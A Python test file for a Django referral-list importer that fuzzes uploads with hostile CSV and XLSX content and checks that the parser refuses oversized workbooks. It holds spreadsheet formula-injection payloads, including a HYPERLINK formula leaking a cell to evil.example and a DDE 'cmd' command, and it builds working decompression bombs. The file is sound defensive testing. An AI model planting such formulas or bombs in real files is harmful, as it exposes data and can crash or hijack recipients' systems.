"""Hostile referral lists: binary junk, wrong encodings, huge cells, formulas, missing columns, wrong
types and impossible dates, as CSV and as XLSX. Uploading, previewing and confirming never fail
with a 500 or reflect markup; a refused upload stores nothing; a confirmed import registers exactly
the rows the preview called valid, with exactly the values it checked."""

from __future__ import annotations

import datetime as dt
import io
import tracemalloc
import zipfile
from collections.abc import Iterable, Iterator
from typing import Any
from xml.sax.saxutils import escape

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import translation
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook
from openpyxl.utils.exceptions import IllegalCharacterError

from accounts.tests.factories import CoordinatorFactory
from participants.duplicates import registered_by_identity_number
from participants.identity import make_test_identity_number
from participants.import_views import MAX_PENDING_UPLOADS
from participants.importing import (
    COLUMNS,
    MAX_BLANK_LINES,
    MAX_COLUMNS,
    MAX_ROWS,
    MAX_SHARED_STRINGS_BYTES,
    MAX_UNCOMPRESSED_BYTES,
    MAX_ZIP_ENTRIES,
    ImportFileError,
    build_participant,
    identity_numbers,
    mark_registered,
    parse_referral_file,
)
from participants.models import Participant, ReferralImport, WorkExperience
from participants.tests.factories import ReferralImportFactory
from taxonomy.tests.factories import OccupationFactory

from .hostile_values import HOSTILE_TEXT, MARKUP, assert_safe, changed_tables, fuzz, row_counts

pytestmark = pytest.mark.django_db

HEADERS = [c.header for c in COLUMNS]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka")',
    "=1+1",
    "+46701234567",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
]
_serial = iter(range(10**6))


def _valid_row() -> list[Any]:
    birth = dt.date(1950, 1, 1) + dt.timedelta(days=next(_serial) * 11)
    return [
        make_test_identity_number(birth, 982),
        MARKUP[0],
        "Öberg",
        "ung",
        "AF",
        "2026-09-01",
        "",
        "B",
        "gymnasium",
        "4",
        "070-1234567",
        "a@example.org",
        "5321",
        "3",
        "kvinna",
        "arabiska, engelska",
        "B",
        "5321",
        "",
    ]


XLSX_CELL = st.one_of(
    HOSTILE_TEXT,
    st.sampled_from(FORMULAS),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=True, allow_infinity=True),
    st.booleans(),
    st.datetimes(min_value=dt.datetime(1900, 1, 1), max_value=dt.datetime(9999, 12, 31)),  # noqa: DTZ001 (Excel has no zones)
    st.dates(min_value=dt.date(1900, 1, 1)),
    st.times(),
    st.none(),
)
CSV_CELL = st.one_of(HOSTILE_TEXT, st.sampled_from(FORMULAS), st.just("x" * 200_000))


@st.composite
def tables(draw: st.DrawFn, cell: st.SearchStrategy[Any]) -> list[list[Any]]:
    """A header (sometimes missing, reordered or foreign columns) and rows, some valid, some spoilt."""
    header = draw(
        st.one_of(
            st.just(HEADERS), st.permutations(HEADERS), st.lists(st.sampled_from(HEADERS) | HOSTILE_TEXT, max_size=16)
        )
    )
    rows = []
    for _ in range(draw(st.integers(min_value=0, max_value=4))):
        row = _valid_row()[: len(header)] + [""] * max(0, len(header) - len(HEADERS))
        if header != HEADERS:
            row = [_valid_row()[HEADERS.index(h)] if h in HEADERS else "" for h in header]
        for index in draw(st.sets(st.integers(min_value=0, max_value=max(len(row) - 1, 0)), max_size=3)):
            if index < len(row):
                row[index] = draw(cell)
        rows.append(row + draw(st.lists(cell, max_size=2)))
    return [header, *rows]


@st.composite
def csv_files(draw: st.DrawFn) -> tuple[str, bytes]:
    table = draw(tables(CSV_CELL))
    delimiter = draw(st.sampled_from([";", ",", "\t"]))
    text = "\n".join(delimiter.join(str(c).replace(delimiter, " ") for c in row) for row in table)
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "latin-1", "cp1252"]))
    name = draw(st.sampled_from(["lista.csv", "LISTA.CSV", "lista.txt"]))
    return name, text.encode(encoding, errors="replace")


@st.composite
def xlsx_files(draw: st.DrawFn) -> tuple[str, bytes]:
    workbook = Workbook()
    sheet = workbook.active
    for line, row in enumerate(draw(tables(XLSX_CELL)), start=1):
        for column, value in enumerate(row, start=1):
            try:
                sheet.cell(row=line, column=column, value=value)
            except (
                ValueError,
                TypeError,
                IllegalCharacterError,
            ):  # openpyxl refuses control characters: such a cell stays empty
                continue
    buffer = io.BytesIO()
    workbook.save(buffer)
    return "lista.xlsx", buffer.getvalue()


JUNK = st.tuples(
    st.sampled_from(["lista.csv", "lista.xlsx", "lista.txt", "lista.exe", "lista", ".csv"]), st.binary(max_size=3000)
)
FILES = st.one_of(csv_files(), xlsx_files(), JUNK)


def _client() -> tuple[Client, Any]:
    coordinator = CoordinatorFactory()
    client = Client()
    client.force_login(coordinator)
    return client, coordinator


def _import(client: Client, name: str, content: bytes, all_or_nothing: bool) -> None:
    before = row_counts()
    response = client.post(reverse("participants:import_upload"), {"file": SimpleUploadedFile(name, content)})
    assert_safe(response)
    if response.status_code != 302:
        assert response.status_code == 200
        assert not changed_tables(before)
        return
    pending_before = before["participants.ReferralImport"]
    assert changed_tables(before) == {"participants.ReferralImport": (pending_before, pending_before + 1)}
    preview = client.get(response["Location"])
    assert_safe(preview)
    pending = ReferralImport.objects.latest("pk")
    rows = parse_referral_file(bytes(pending.content), pending.filename)
    mark_registered(
        rows, registered_by_identity_number(user=pending.created_by, identity_numbers=identity_numbers(rows))
    )
    valid = [row for row in rows if row.valid]
    known = set(Participant.objects.values_list("pk", flat=True))
    before = row_counts()
    confirm = {"confirm": "1", **({"all_or_nothing": "on"} if all_or_nothing else {})}
    response = client.post(preview.request["PATH_INFO"], confirm)
    assert_safe(response)
    created = Participant.objects.exclude(pk__in=known).order_by("pk")
    if response.status_code != 302:
        # Refused (all or nothing with a bad row, or no row to import at all): nothing is written and the
        # upload stays for another try.
        assert (all_or_nothing and len(valid) < len(rows)) or not valid
        assert not changed_tables(before)
        return
    # Imported: the file is emptied; the record of the import stays, naming whom it registered.
    pending.refresh_from_db()
    assert pending.status == ReferralImport.Status.IMPORTED and bytes(pending.content) == b""
    assert set(pending.participants.values_list("pk", flat=True)) == {p.pk for p in created}
    assert len(created) == len(valid)
    for participant, row in zip(created, valid, strict=True):
        expected = build_participant(row)
        for field in ("identity_number", "first_name", "last_name", "target_group", "referral_source", "referral_date",
                      "residence_permit_date", "establishment_programme_end", "swedish_level", "education_level",
                      "hours_per_day", "phone", "email", "gender", "has_driving_licence",
                      "home_district_id"):  # fmt: skip
            assert getattr(participant, field) == getattr(expected, field), field
        experience = list(
            WorkExperience.objects.filter(participant=participant).values_list("occupation_id", flat=True)
        )
        assert experience == ([row.values["occupation"]] if row.values.get("occupation") else [])
        assert sorted(participant.languages.values_list("pk", flat=True)) == row.values.get("languages", [])
        assert sorted(participant.interests.values_list("occupation_id", flat=True)) == sorted(
            row.values.get("interests", [])
        )


@fuzz(30)
@given(upload=FILES, all_or_nothing=st.booleans())
def test_hostile_referral_lists(upload: tuple[str, bytes], all_or_nothing: bool) -> None:
    OccupationFactory(code="5321")
    client, _ = _client()
    _import(client, *upload, all_or_nothing)


# Workbooks and CSV files beyond the bounds (participants.importing): refused next to the upload field,
# before anything big is unpacked or read. The bombs are real: small files that unpack to a lot.

MB = 1024 * 1024
SHEET = "xl/worksheets/sheet1.xml"
SHEET_HEAD = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
)


def _workbook(rows: list[list[Any]]) -> bytes:
    workbook = Workbook()
    for row in rows:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _repacked(content: bytes, parts: dict[str, Iterable[bytes]]) -> bytes:
    """The workbook with some parts replaced or added, each written chunk by chunk (nothing big in memory)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            if item.filename not in parts:
                target.writestr(item, source.read(item.filename))
        for name, chunks in parts.items():
            with target.open(name, "w", force_zip64=True) as part:
                for chunk in chunks:
                    part.write(chunk)
    return buffer.getvalue()


def _header_row() -> bytes:
    cells = "".join(f'<c t="inlineStr"><is><t>{h}</t></is></c>' for h in HEADERS)
    return f'<row r="1">{cells}</row>'.encode()


def _sheet(rows: Iterable[bytes], dimension: str = "A1:N2") -> Iterator[bytes]:
    yield f'{SHEET_HEAD}<dimension ref="{dimension}"/><sheetData>'.encode() + _header_row()
    yield from rows
    yield b"</sheetData></worksheet>"


def _blank_rows(count: int, start: int = 2) -> Iterator[bytes]:
    batch = 1000
    for first in range(start, start + count, batch):
        yield b"".join(f'<row r="{n}"/>'.encode() for n in range(first, min(first + batch, start + count)))


def _refused(client: Client, name: str, content: bytes) -> str:
    response = client.post(reverse("participants:import_upload"), {"file": SimpleUploadedFile(name, content)})
    assert response.status_code == 200
    assert not ReferralImport.objects.exists()
    page = response.content.decode()
    assert 'id="id_file_error"' in page  # next to the upload field
    return page


def _parse_peak(content: bytes, name: str = "lista.xlsx") -> tuple[str, int]:
    """The refusal's message, and the most memory parsing took on the way."""
    tracemalloc.start()
    try:
        with pytest.raises(ImportFileError) as refusal:
            parse_referral_file(content, name)
        return str(refusal.value), tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_a_workbook_that_unpacks_beyond_the_limit_is_refused_before_it_is_read() -> None:
    """The 10 MB upload limit applied to the packed file: 400 KB once unpacked to 3.5 GB in memory."""
    filler = b"<row/>" * (MB // 6)
    bomb = _repacked(_workbook([HEADERS]), {SHEET: _sheet([filler] * (MAX_UNCOMPRESSED_BYTES // MB + 1))})
    assert len(bomb) < MB
    message, peak = _parse_peak(bomb)
    assert message == translation.gettext(
        "The workbook unpacks to more than %(max)s MB. Save only the referral list in it, or save it as CSV."
    ) % {"max": 64}
    assert peak < 4 * MB


SHARED_STRINGS_TYPE = (
    b'<Override PartName="/xl/sharedStrings.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
)


def test_a_strings_table_bomb_is_refused_before_openpyxl_reads_it_whole() -> None:
    strings = [b'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">']
    strings += [b"<si><t>a</t></si>" * (MB // 16)] * (MAX_SHARED_STRINGS_BYTES // MB + 1) + [b"</sst>"]
    workbook = _workbook([HEADERS])
    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
        types = archive.read("[Content_Types].xml").replace(b"</Types>", SHARED_STRINGS_TYPE + b"</Types>")
    bomb = _repacked(workbook, {"xl/sharedStrings.xml": strings, "[Content_Types].xml": [types]})
    assert len(bomb) < 100_000
    message, peak = _parse_peak(bomb)
    assert f"mer än {MAX_SHARED_STRINGS_BYTES // MB} MB" in message
    assert peak < 4 * MB


def test_a_part_packed_unusually_tightly_is_refused(client_and_user: tuple[Client, Any]) -> None:
    client, _ = client_and_user
    bomb = _repacked(_workbook([HEADERS]), {"xl/media/filler.xml": [b"<x/>" * (MB // 2)]})  # 2 MB, packed ~1000:1
    assert "ovanligt hårt packad" in _refused(client, "lista.xlsx", bomb)


def test_a_workbook_of_too_many_parts_is_refused(client_and_user: tuple[Client, Any]) -> None:
    client, _ = client_and_user
    parts: dict[str, Iterable[bytes]] = {f"xl/media/{n}.xml": [b"<x/>"] for n in range(MAX_ZIP_ENTRIES)}
    assert "fler än 200 delar" in _refused(client, "lista.xlsx", _repacked(_workbook([HEADERS]), parts))


@pytest.mark.parametrize(
    ("dimension", "message"), [("A1:N30000", "högst 20\xa0000 rader"), ("A1:BZ2", "högst 50 kolumner")]
)
def test_a_sheet_stating_too_many_rows_or_columns_is_refused_before_its_rows_are_read(
    dimension: str, message: str
) -> None:
    bomb = _repacked(_workbook([HEADERS]), {SHEET: _sheet([_valid_row_xml()], dimension=dimension)})
    refusal, _ = _parse_peak(bomb)
    assert message in refusal


def test_a_sheet_that_understates_its_rows_is_stopped_while_read() -> None:
    lines = MAX_ROWS + MAX_BLANK_LINES + 1
    bomb = _repacked(_workbook([HEADERS]), {SHEET: _sheet(_blank_rows(lines))})
    refusal, _ = _parse_peak(bomb)
    assert "högst 20\xa0000 rader" in refusal


def test_a_sheet_that_understates_its_columns_is_stopped_while_read() -> None:
    far = b'<row r="2"><c r="AY2" t="inlineStr"><is><t>x</t></is></c></row>'  # column 51
    refusal, _ = _parse_peak(_repacked(_workbook([HEADERS]), {SHEET: _sheet([far])}))
    assert "högst 50 kolumner" in refusal


def test_a_sheet_up_to_the_bounds_is_read_whole_whatever_size_it_states() -> None:
    """openpyxl stops at the last row the sheet states: an understated size dropped rows unseen."""
    OccupationFactory(code="5321")
    sheet = _sheet([_valid_row_xml(2), *_blank_rows(MAX_BLANK_LINES - 1, start=3), _valid_row_xml(MAX_BLANK_LINES + 2)])
    rows = parse_referral_file(_repacked(_workbook([HEADERS]), {SHEET: sheet}), "lista.xlsx")
    assert [row.line for row in rows] == [2, MAX_BLANK_LINES + 2]
    assert all(row.valid for row in rows), [row.errors for row in rows]


def _valid_row_xml(line: int = 2) -> bytes:
    cells = "".join(f'<c t="inlineStr"><is><t>{escape(str(value))}</t></is></c>' for value in _valid_row())
    return f'<row r="{line}">{cells}</row>'.encode()


def test_a_csv_file_of_too_many_lines_is_refused(client_and_user: tuple[Client, Any]) -> None:
    client, _ = client_and_user
    content = (";".join(HEADERS) + "\n" + "\n" * (MAX_ROWS + MAX_BLANK_LINES + 1)).encode()
    assert "högst 20\xa0000 rader" in _refused(client, "lista.csv", content)


def test_a_csv_file_of_too_many_columns_is_refused(client_and_user: tuple[Client, Any]) -> None:
    client, _ = client_and_user
    row = ";".join(str(c) for c in _valid_row()) + ";" * (MAX_COLUMNS - len(HEADERS)) + ";x"
    content = (";".join(HEADERS) + "\n" + row + "\n").encode()
    assert "högst 50 kolumner" in _refused(client, "lista.csv", content)


@pytest.fixture
def client_and_user() -> tuple[Client, Any]:
    return _client()


def test_a_coordinator_keeps_only_so_many_uploads_waiting(client_and_user: tuple[Client, Any]) -> None:
    client, coordinator = client_and_user
    for _ in range(MAX_PENDING_UPLOADS):
        ReferralImportFactory(created_by=coordinator, team=coordinator.team, filename="a.csv", content=b"x")
    content = (";".join(HEADERS) + "\n" + ";".join(str(c) for c in _valid_row()) + "\n").encode()
    response = client.post(reverse("participants:import_upload"), {"file": SimpleUploadedFile("a.csv", content)})
    assert "Du har 5 uppladdningar som väntar" in response.content.decode()
    assert ReferralImport.objects.count() == MAX_PENDING_UPLOADS
